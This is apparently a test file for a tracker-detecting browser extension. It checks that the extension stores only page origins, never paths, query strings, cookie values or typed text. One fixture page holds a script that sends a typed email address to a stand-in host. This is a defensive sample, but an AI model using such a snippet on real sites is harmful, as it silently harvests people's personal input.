import { afterAll, beforeAll, expect, test } from 'vitest';
import { periodNow, readLedger } from './ledger.ts';
import { found, hosts, startTelltale, type Inside, type Telltale } from './telltale.ts';

let telltale: Telltale;
beforeAll(async () => {
  telltale = await startTelltale();
});
afterAll(() => telltale.close());

/** Hosts that the browsers turn to by themselves, extension or not. */
const browserOwn = /(^|\.)(google\.com|googleapis\.com|gvt1\.com|mozilla\.(com|net|org)|firefox\.com)(:\d+)?$/;

test('the extension asks nobody for anything but, once the person says so, the page’s own address as a stranger', async () => {
  const { web, open, until, session } = telltale;
  web.put('http://page.test/', '<h1>A page</h1><script src="http://static.hotjar.com/c/hotjar-1.js"></script>');
  const tab = await open('http://page.test/');
  await until(tab, (view) => expect(found(view)).toEqual(['hotjar']));
  const popup = await session.browser.newPage();
  await popup.goto(session.address(`src/popup/popup.html?tab=${tab}`), { waitUntil: [] });
  await popup.waitForSelector('#root details');
  // The one exception (decision 0006) begins with the second click, after the address was shown.
  // Clicked by script: the list above may still grow, and a click by place would miss.
  const click = (selector: string) => popup.$eval(selector, (button) => (button as HTMLElement).click());
  await click('.stranger button');
  await popup.waitForSelector('.stranger .address');
  const pages = () => web.asked.filter(({ url }) => url === 'http://page.test/').length;
  expect(pages()).toBe(1);
  await click('.stranger .main');
  await expect.poll(pages, { timeout: 20_000 }).toBe(3);
  await popup.waitForFunction(() => document.querySelector('.stranger')?.textContent.includes('No differences'));
  expect(pages()).toBe(3);
  const asked = web.asked.map(({ url }) => new URL(url.includes('://') ? url : `http://${url}`).host);
  expect(asked.filter((host) => !browserOwn.test(host)).toSorted()).toEqual(
    expect.toSatisfy((all: string[]) => all.every((host) => ['page.test', 'static.hotjar.com'].includes(host))),
  );
  await popup.close();
});

test('of a page on a host that is itself a vendor’s, and of a tracker told in a path, no path is kept either', async () => {
  const { web, open, until, inside } = telltale;
  web.put(
    'http://hotjar.com/secret-account',
    '<img src="http://1.fls.doubleclick.net/activityi;u1=secret;~oref=secret">',
  );
  const tab = await open('http://hotjar.com/secret-account');
  const { visit } = await until(tab, (view) => expect(hosts(view)).toEqual(['1.fls.doubleclick.net']));
  const stored = async () => JSON.stringify((await inside(readLedger, periodNow())).find(({ id }) => id === visit?.id));
  await expect.poll(stored, { timeout: 10_000 }).toContain('http://1.fls.doubleclick.net');
  expect(await stored()).not.toContain('secret');
});

test('what is kept of a page is its origin; no path, no query, no value of a cookie', async () => {
  const { web, open, until, inside } = telltale;
  web.put(
    'http://clinic.test/secret-illness',
    `<script>document.cookie = '_hjSession_1=secret-value'; localStorage.setItem('secret-free', 'secret-value')</script>
     <img src="http://third.test/p.gif?dl=secret-query">`,
  );
  const tab = await open('http://clinic.test/secret-illness?q=secret-query#secret-fragment');
  await until(tab, (view) => {
    expect(found(view)).toEqual(['hotjar', 'tracking-pixel']);
    expect(hosts(view)).toEqual(['third.test']);
  });
  const stored = async () => {
    const rows = await inside(readLedger, periodNow());
    const rest = await inside(() => (globalThis as unknown as Inside).chrome.storage.local.get());
    return JSON.stringify([rows, rest]);
  };
  await expect.poll(stored, { timeout: 10_000 }).toContain('http://clinic.test');
  expect((await stored()).replaceAll('secret-free', '')).not.toContain('secret');
});

test('of a typed text that leaves, the fact is kept and no letter of it', async () => {
  const { web, open, until, inside, session } = telltale;
  web.put(
    'http://form.test/',
    `<input type="email" id="email"><script>
       email.onchange = () => { new Image().src = 'http://listens.test/p.gif?e=' + encodeURIComponent(email.value); };
     </script>`,
  );
  const tab = await open('http://form.test/');
  const target = await session.browser.waitForTarget((one) => one.url() === 'http://form.test/');
  const page = (await target.page())!;
  await page.type('#email', 'jane.roe@example.com');
  await page.evaluate(() => (document.activeElement as HTMLElement).blur());
  await until(tab, (view) => expect(found(view)).toContain('typed-text-leak'));
  const stored = async () => {
    const rows = await inside(readLedger, periodNow());
    const rest = await inside(() => (globalThis as unknown as Inside).chrome.storage.local.get());
    return JSON.stringify([rows, rest]);
  };
  await expect.poll(stored, { timeout: 10_000 }).toContain('typed-text-leak');
  expect(await stored()).not.toMatch(/jane|roe|example\.com|amFuZS/);
});
